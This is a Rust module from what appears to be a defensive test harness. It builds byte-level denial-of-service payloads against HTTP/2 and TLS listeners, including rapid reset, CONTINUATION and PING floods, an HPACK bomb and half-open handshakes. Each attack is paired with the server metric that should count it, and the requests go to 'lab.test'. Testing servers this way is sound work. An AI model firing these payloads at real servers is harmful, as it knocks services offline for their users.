//! Attacks, byte by byte: known attacks on HTTP/2, and attacks on TLS handshakes.

/// Behaviour of an attacking connection.
pub struct Attack {
    pub name: &'static str,
    /// True if it targets the listener with TLS.
    pub tls: bool,
    /// First bytes that it sends.
    pub begin: fn() -> Vec<u8>,
    /// Bytes that it sends repeatedly, by number of the repetition; `None` if it only stays connected.
    pub again: Option<fn(u32) -> Vec<u8>>,
    /// True if it reads responses.
    pub reads: bool,
    /// Metric that counts it: the name up to the brace, and the labels that a series must have.
    pub counted: (&'static str, &'static [&'static str]),
}

impl Attack {
    /// Description for the report.
    pub fn about(&self) -> &'static str {
        match (self.tls, self.again.is_some()) {
            (true, true) => "over TLS, again and again on each connection",
            (true, false) => "over TLS, once on each connection, which stays",
            (false, true) => "over HTTP/2, again and again on each connection",
            (false, false) => "over HTTP/2, once on each connection, which stays",
        }
    }
}

const FLOODS: &str = "evenkeel_http2_floods_total";
const REFUSED: (&str, &[&str]) = ("evenkeel_http2_resets_sent_total", &["refused_stream"]);
const UNSHAKEN: (&str, &[&str]) = ("evenkeel_tls_handshake_failures_total", &[]);

/// All attacks, in the order of the report.
pub static ALL: &[Attack] = &[
    Attack {
        name: "rapid reset",
        tls: false,
        begin: preface,
        again: Some(|n| {
            let stream = 2 * n + 1;
            [frame(HEADERS, END_HEADERS | END_STREAM, stream, &get("/1k")), frame(RST_STREAM, 0, stream, &CANCEL)]
                .concat()
        }),
        reads: true,
        counted: (FLOODS, &["resets"]),
    },
    Attack {
        name: "CONTINUATION",
        tls: false,
        begin: || [preface(), frame(HEADERS, END_STREAM, 1, &get("/1k"))].concat(),
        again: Some(|_| frame(CONTINUATION, 0, 1, b"").repeat(100)),
        reads: true,
        counted: (FLOODS, &["continuations"]),
    },
    Attack {
        name: "SETTINGS",
        tls: false,
        begin: preface,
        again: Some(|_| frame(SETTINGS, 0, 0, &[0, 4, 0, 1, 0, 0]).repeat(100)),
        reads: true,
        counted: (FLOODS, &["settings"]),
    },
    Attack {
        name: "PING",
        tls: false,
        begin: preface,
        again: Some(|_| frame(PING, 0, 0, &[7; 8]).repeat(100)),
        reads: true,
        counted: (FLOODS, &["pings"]),
    },
    Attack {
        name: "PING, answers not read",
        tls: false,
        begin: preface,
        again: Some(|_| frame(PING, 0, 0, &[7; 8]).repeat(100)),
        reads: false,
        counted: (FLOODS, &["pings"]),
    },
    Attack {
        name: "PRIORITY",
        tls: false,
        begin: preface,
        again: Some(|_| frame(PRIORITY, 0, 1, &[0, 0, 0, 0, 1]).repeat(100)),
        reads: true,
        counted: (FLOODS, &["ignored_frames"]),
    },
    Attack {
        name: "empty DATA",
        tls: false,
        begin: || [preface(), frame(HEADERS, END_HEADERS, 1, &post("/silent/"))].concat(),
        again: Some(|_| frame(DATA, 0, 1, b"").repeat(100)),
        reads: true,
        counted: (FLOODS, &["empty_data"]),
    },
    Attack {
        name: "WINDOW_UPDATE",
        tls: false,
        begin: preface,
        again: Some(|_| frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1]).repeat(100)),
        reads: true,
        counted: (FLOODS, &["window_updates"]),
    },
    Attack {
        name: "100,000 fields",
        tls: false,
        begin: preface,
        again: Some(|n| head(2 * n + 1, &[get("/1k"), b"\0\x01a\x01b".repeat(100_000)].concat())),
        reads: true,
        counted: (FLOODS, &[]),
    },
    Attack {
        name: "HPACK bomb",
        tls: false,
        begin: preface,
        again: Some(|n| {
            // Puts a field of 4000 bytes into the table and references it 12,000 times: 48 MB.
            let field = [&[0x40, 1, b'a', 0x7f, 0xa1, 0x1e][..], &[b'x'; 4000], &[0xbe; 12_000]].concat();
            head(2 * n + 1, &[get("/1k"), field].concat())
        }),
        reads: true,
        counted: (FLOODS, &["large_heads"]),
    },
    Attack {
        name: "windows of zero",
        tls: false,
        begin: || [&preface()[..], &frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0, 0]), &requests("/1m", 200)].concat(),
        again: None,
        reads: true,
        counted: REFUSED,
    },
    Attack {
        name: "1 MiB each, not read",
        tls: false,
        begin: || {
            let wide = frame(SETTINGS, 0, 0, &[0, 4, 0x7f, 0xff, 0xff, 0xff]);
            let open = frame(WINDOW_UPDATE, 0, 0, &[0x3f, 0xff, 0xff, 0xff]);
            [&preface()[..], &wide, &open, &requests("/1m", 200)].concat()
        },
        again: None,
        reads: false,
        counted: ("evenkeel_http2_streams_total", &[]),
    },
    Attack {
        name: "half a handshake",
        tls: true,
        begin: || [&[0x16, 3, 1, 2, 0, 1, 0, 1, 0xfc, 3, 3][..], &[7; 32]].concat(),
        again: None,
        reads: true,
        counted: ("evenkeel_tls_hellos_waiting", &[]),
    },
    Attack {
        name: "records too large",
        tls: true,
        begin: || [&[0x16, 3, 1, 0xff, 0xff][..], &[1; 4096]].concat(),
        again: Some(|_| vec![1; 4096]),
        reads: true,
        counted: UNSHAKEN,
    },
];

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const PRIORITY: u8 = 2;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;

const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

const CANCEL: [u8; 4] = [0, 0, 0, 8];

/// Largest frame payload that every peer accepts (RFC 9113, 4.2).
const FRAME_MAX: usize = 16_384;

fn preface() -> Vec<u8> {
    [b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", &frame(SETTINGS, 0, 0, b"")[..]].concat()
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = (payload.len() as u32).to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// Encodes a head in as many frames as needed.
fn head(stream: u32, block: &[u8]) -> Vec<u8> {
    let last = block.len().div_ceil(FRAME_MAX).saturating_sub(1);
    let parts = block.chunks(FRAME_MAX).enumerate().map(|(n, part)| {
        let kind = if n == 0 { HEADERS } else { CONTINUATION };
        let ends = if n == 0 { END_STREAM } else { 0 } | if n == last { END_HEADERS } else { 0 };
        frame(kind, ends, stream, part)
    });
    parts.flatten().collect()
}

fn requests(path: &str, count: u32) -> Vec<u8> {
    (0..count).flat_map(|n| frame(HEADERS, END_HEADERS | END_STREAM, 2 * n + 1, &get(path))).collect()
}

/// Header block of a GET, from HPACK's static table and literals without indexing.
fn get(path: &str) -> Vec<u8> {
    [&[0x82, 0x86][..], &named(4, path), &named(1, "lab.test")].concat()
}

fn post(path: &str) -> Vec<u8> {
    [&[0x83, 0x86][..], &named(4, path), &named(1, "lab.test")].concat()
}

/// Literal without indexing for a name of the static table.
fn named(index: u8, value: &str) -> Vec<u8> {
    [&[index, value.len() as u8], value.as_bytes()].concat()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_long_head_is_cut_into_frames_of_which_the_last_ends_it() {
        let bytes = head(3, &vec![0; 2 * FRAME_MAX + 5]);
        let kinds: Vec<(u8, u8)> =
            [0, FRAME_MAX + 9, 2 * (FRAME_MAX + 9)].map(|at| (bytes[at + 3], bytes[at + 4])).to_vec();
        assert_eq!(kinds, [(HEADERS, END_STREAM), (CONTINUATION, 0), (CONTINUATION, END_HEADERS)]);
        assert_eq!(bytes.len(), 2 * FRAME_MAX + 5 + 3 * 9);
        assert_eq!(head(1, &get("/"))[4], END_STREAM | END_HEADERS);
    }

    #[test]
    fn every_attack_on_http2_begins_as_a_client_does() {
        for attack in ALL.iter().filter(|attack| !attack.tls) {
            assert!((attack.begin)().starts_with(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04"), "{}", attack.name);
        }
    }
}
